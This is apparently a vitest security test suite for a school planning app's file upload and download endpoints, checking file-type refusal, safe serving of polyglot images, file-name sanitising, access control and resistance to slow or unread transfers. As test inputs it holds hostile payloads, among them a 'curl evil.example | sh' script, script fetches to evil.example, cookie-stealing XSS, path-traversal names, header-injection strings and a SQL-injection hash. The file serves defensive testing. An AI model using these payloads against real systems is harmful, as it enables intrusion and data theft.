import { createHash } from 'node:crypto'
import { connect } from 'node:net'
import { setTimeout as rhythm } from 'node:timers/promises'
import { afterAll, beforeAll, describe, expect, test } from 'vitest'
import { LIMITS } from '../../schema/protocol/limits.js'
import { files, joined, pngOf, zipOf } from '../support/files.js'
import { HealthyPair } from '../support/healthy-pair.js'
import { type LivePerson, LiveSchool } from '../support/live-school.js'
import { planOf } from '../support/plans.js'
import { within } from '../support/within.js'

let school: LiveSchool
let pair: HealthyPair
let staff: LivePerson
beforeAll(async () => {
  school = await LiveSchool.open({ LOG_LEVEL: 'trace' })
  pair = await HealthyPair.open(school)
  staff = await school.addOne('staff', 'Attacker')
})
afterAll(async () => {
  await pair.expectWholeAfterRestart()
  school.expectNoSecretsPrinted()
  // R28: neither what a file holds nor how it is called is for a log.
  expect(school.server.output).not.toContain('Safeguarding')
  await school.close()
})

const utf8 = (text: string) => new TextEncoder().encode(text)
const bearer = ({ token }: LivePerson) => ({ authorization: `Bearer ${token}` })
const address = (rest = '', plan = school.plan) => `${school.server.url}/api/plans/${plan}/files${rest}`
const upload = (bytes: Uint8Array<ArrayBuffer>, name: string, who = staff, plan = school.plan) =>
  fetch(address(`?name=${encodeURIComponent(name)}`, plan), { method: 'POST', body: bytes, headers: bearer(who) })
const get = (hash: string, who = staff, plan = school.plan) =>
  fetch(address(`/${hash}`, plan), { headers: bearer(who) })
const idOf = async (answer: Response) => ((await answer.json()) as { readonly id: string }).id

describe('what is no evidence', () => {
  test('programs, web pages, drawings that hold programs and macros are refused under every name', async () => {
    const bad = [
      utf8('<!doctype html><script>fetch("//evil.example")</script>'),
      utf8('\ufeff\n\n<svg xmlns="http://www.w3.org/2000/svg" onload="alert(1)"/>'),
      joined(utf8('MZ'), new Uint8Array(200)),
      utf8('#!/bin/sh\ncurl evil.example | sh\n'),
      zipOf({ '[Content_Types].xml': '', 'word/document.xml': '', 'word/vbaProject.bin': 'x' }),
      zipOf({ '[Content_Types].xml': '', 'word/document.xml': '', '../../../etc/cron.d/x': 'x', 'x/run.js': 'x' }),
      pngOf(65_000, 65_000),
      new Uint8Array(1000),
    ]
    await pair.during(async () => {
      for (const bytes of bad)
        for (const name of ['photo.png', 'minutes.pdf', 'x']) expect((await upload(bytes, name)).status).toBe(415)
    })
    await pair.expectNothingNoticed()
  })

  test('a picture that is also a web page is served as a picture that nothing runs in', async () => {
    const polyglot = joined(pngOf(2, 2), utf8('<html><script>alert(document.cookie)</script></html>'))
    const gif = joined(files.gif.subarray(0, 10), utf8('*/=alert(1)//<script>'))
    for (const bytes of [polyglot, gif]) {
      const answer = await get(await idOf(await upload(bytes, 'logo.html')))
      expect(answer.headers.get('content-type')).toMatch(/^image\/(png|gif)$/)
      expect(answer.headers.get('content-disposition')).toMatch(/^inline; filename="logo\.html\.(png|gif)"/)
      expect(answer.headers.get('x-content-type-options')).toBe('nosniff')
      expect(answer.headers.get('content-security-policy')).toBe("default-src 'none'; sandbox")
    }
  })
})

describe('names', () => {
  test('cannot leave the folder of downloads, end a header, hide their ending or name another file', async () => {
    const names = [
      '../../../../etc/passwd',
      '..\\..\\Windows\\System32\\drivers\\etc\\hosts',
      'a\r\nSet-Cookie: plan=stolen\r\n\r\n<script>',
      'x"; filename="evil.exe',
      `x'; filename*=UTF-8''evil.exe`,
      'Safeguarding\u202efdp.exe',
      '\0\0\0',
      '%0d%0aX: y',
      'CON',
      'ü'.repeat(300),
    ]
    await pair.during(async () => {
      for (const [index, name] of names.entries()) {
        const answer = await get(await idOf(await upload(joined(files.pdf, utf8(String(index))), name)))
        expect(answer.status).toBe(200)
        expect(answer.headers.get('set-cookie')).toBeNull()
        const said = answer.headers.get('content-disposition') ?? ''
        expect(said).toMatch(
          /^attachment; filename="[A-Za-z0-9 ._()-]+\.pdf"; filename\*=UTF-8''[A-Za-z0-9%._-]+\.pdf$/,
        )
        const shown = decodeURIComponent(said.split("''")[1] ?? '')
        expect(shown).not.toMatch(/[/\\\p{C}]|^\./u)
        expect([...shown].length).toBeLessThanOrEqual(125)
        await answer.arrayBuffer()
      }
    })
    await pair.expectNothingNoticed()
  })

  test('that are no text at all are as good as none', async () => {
    const sent = await fetch(address('?name=%ED%A0%80%FF%00'), {
      method: 'POST',
      body: files.ods,
      headers: bearer(staff),
    })
    expect(await sent.json()).toMatchObject({ name: expect.stringMatching(/^[^/\\]+\.ods$/) })
  })

  test('a hash that is none finds nothing', async () => {
    const hashes = [
      '..',
      '..%2f..%2fauth-secret',
      '%00',
      'A'.repeat(64),
      '0'.repeat(64),
      "'%20OR%201=1--",
      'x'.repeat(8000),
    ]
    for (const hash of hashes) expect((await get(hash)).status).toBeOneOf([404, 414])
    await pair.expectNothingNoticed()
  })
})

describe('who may not', () => {
  test('R2: viewers and governors add nothing, strangers neither add nor read, each at once however much they send', async () => {
    const id = await idOf(await upload(files.docx, 'Safeguarding.docx'))
    const huge = new Uint8Array(LIMITS.fileBytes)
    for (const role of ['viewer', 'governor'] as const) {
      const reader = await school.addOne(role, `the ${role}`)
      const answer = await upload(huge, 'x.png', reader).then(
        ({ status }) => status,
        () => 'closed',
      )
      expect(answer).toBeOneOf([403, 'closed'])
      expect((await get(id, reader)).status).toBe(200)
    }
    expect((await fetch(address(`/${id}`))).status).toBe(401)
    const sent = await fetch(address(), { method: 'POST', body: files.gif })
    expect(sent.status).toBe(401)
    await pair.expectNothingNoticed()
  })

  test('another plan’s file is not found, by its hash neither, nor by writing the hash into one’s own plan', async () => {
    const other = await school.importPlan(planOf(2))
    const secret = joined(files.pdf, utf8('Safeguarding case'))
    const id = await idOf(await upload(secret, 'Safeguarding.pdf', school.leader, other))
    const outsider = await school.addOne('staff', 'outsider')
    await school.changeAccounts(async ({ memberships }) => {
      memberships.grant(outsider.userId, school.plan, 'staff')
      memberships.revoke(outsider.userId, '*')
    })
    expect((await get(id, outsider, other)).status).toBe(404)
    expect((await get(id, outsider)).status).toBe(404)
    const taking = await fetch(address(`/${id}`), { method: 'POST', headers: bearer(outsider) })
    expect(taking.status).toBe(404)
    expect((await get(id, school.leader, other)).status).toBe(200)
    expect(createHash('sha256').update(secret).digest('hex')).toBe(id)
  })
})

/** Milliseconds between two questions of somebody who was told to come again. */
const ASKING_MS = 1000

describe('too much', () => {
  /** Sends the head of an upload and some of its body, then waits for what comes. */
  function halfAnUpload(bytes: number, who = staff): Promise<string> {
    const { hostname, port } = new URL(school.server.url)
    const socket = connect(Number(port), hostname)
    const head = [
      `POST /api/plans/${school.plan}/files?name=x HTTP/1.1`,
      `Host: ${hostname}:${port}`,
      `Authorization: Bearer ${who.token}`,
      `Content-Length: ${bytes}`,
    ]
    socket.write(`${head.join('\r\n')}\r\n\r\nGIF89a`)
    return new Promise((resolve) => {
      let heard = ''
      socket.on('data', (data) => {
        heard += data.toString('latin1')
        if (heard.includes('\r\n\r\n')) socket.destroy()
      })
      socket.on('error', () => undefined)
      socket.on('close', () => resolve(heard.split('\r\n')[0] ?? ''))
    })
  }

  test('a file that says it is huge is refused before it is sent', async () => {
    const answer = await within(5000, halfAnUpload(LIMITS.fileBytes + 1), 'The refusal of a huge file')
    expect(answer).toBe('HTTP/1.1 413 Payload Too Large')
    await pair.expectNothingNoticed()
  })

  test('R18: uploads that stop half way are given up, and meanwhile hold up neither their sender’s writing nor anybody', async () => {
    const slow = await school.addOne('staff', 'slow')
    const answers = await pair.during(() =>
      Promise.all(Array.from({ length: LIMITS.uploadsAtOnce + 2 }, () => halfAnUpload(1_000_000, slow))),
    )
    const count = (status: string) => answers.filter((answer) => answer.includes(status)).length
    expect([count('429'), count('408')]).toEqual([2, LIMITS.uploadsAtOnce])
    expect((await upload(files.gif, 'x.gif', slow)).status).toBeOneOf([200, 201])
    await pair.expectNothingNoticed()
  })

  /** Asks for a file and takes nothing of it after the head of the answer. */
  function neverReading(hash: string, who: LivePerson) {
    const { hostname, port } = new URL(school.server.url)
    const socket = connect(Number(port), hostname)
    socket.write(
      `GET /api/plans/${school.plan}/files/${hash} HTTP/1.1\r\nHost: ${hostname}:${port}\r\nAuthorization: Bearer ${who.token}\r\n\r\n`,
    )
    socket.on('error', () => undefined)
    const head = new Promise<string>((resolve) => {
      socket.once('data', (data) => {
        socket.pause()
        resolve(data.toString('latin1').split('\r\n\r\n')[0] ?? '')
      })
    })
    return { socket, head }
  }

  /** Goes on reading until there is nothing more. @returns how many bytes there were */
  async function rest({ socket }: ReturnType<typeof neverReading>): Promise<number> {
    let bytes = 0
    socket.on('data', ({ length }) => {
      bytes += length
    })
    socket.resume()
    if (!socket.closed) await new Promise((resolve) => socket.once('close', resolve))
    return bytes
  }

  test('R18: files of the largest size, and a person with 40 downloads who reads none: few are begun, all are given up', async () => {
    const bytes = joined(pngOf(10, 10), new Uint8Array(LIMITS.fileBytes - 33).fill(1))
    const hash = await idOf(await upload(bytes, 'big.png'))
    const lazy = await school.addOne('staff', 'lazy')
    // What comes of itself the first time a file is read is no cost of the attack.
    expect((await (await get(hash)).arrayBuffer()).byteLength).toBe(bytes.length)
    school.server.forgetPeak()
    const before = school.server.peakMemory
    await pair.during(async () => {
      const asked = Array.from({ length: 40 }, () => neverReading(hash, lazy))
      const heads = await Promise.all(asked.map(({ head }) => within(20_000, head, 'The head of an answer')))
      const begun = asked.filter((_, index) => heads[index]?.startsWith('HTTP/1.1 200'))
      const refused = heads.filter((head) => head.startsWith('HTTP/1.1 429'))
      expect([begun.length, refused.length]).toEqual([LIMITS.downloadsAtOnce, 40 - LIMITS.downloadsAtOnce])
      for (const head of refused) expect(head.toLowerCase()).toContain('retry-after: 5')
      // A colleague is given the same file meanwhile.
      expect((await (await get(hash)).arrayBuffer()).byteLength).toBe(bytes.length)
      expect((await get(hash, lazy)).status).toBe(429)
      // A connection that is cut off tells whoever does not read nothing; the server lets the next download begin.
      const free = async () => {
        for (;;) {
          const answer = await get(hash, lazy)
          if (answer.status === 200) return (await answer.arrayBuffer()).byteLength
          await answer.body?.cancel()
          await rhythm(ASKING_MS)
        }
      }
      expect(await within(LIMITS.downloadStillMs + 15_000, free(), 'The end of downloads that nobody reads')).toBe(
        bytes.length,
      )
      for (const one of begun) expect(await within(5000, rest(one), 'The end')).toBeLessThan(bytes.length)
      for (const { socket } of asked) socket.destroy()
    })
    expect(school.server.peakMemory - before).toBeLessThan(100 * 1024 * 1024)
    await pair.expectNothingNoticed()
  })
})
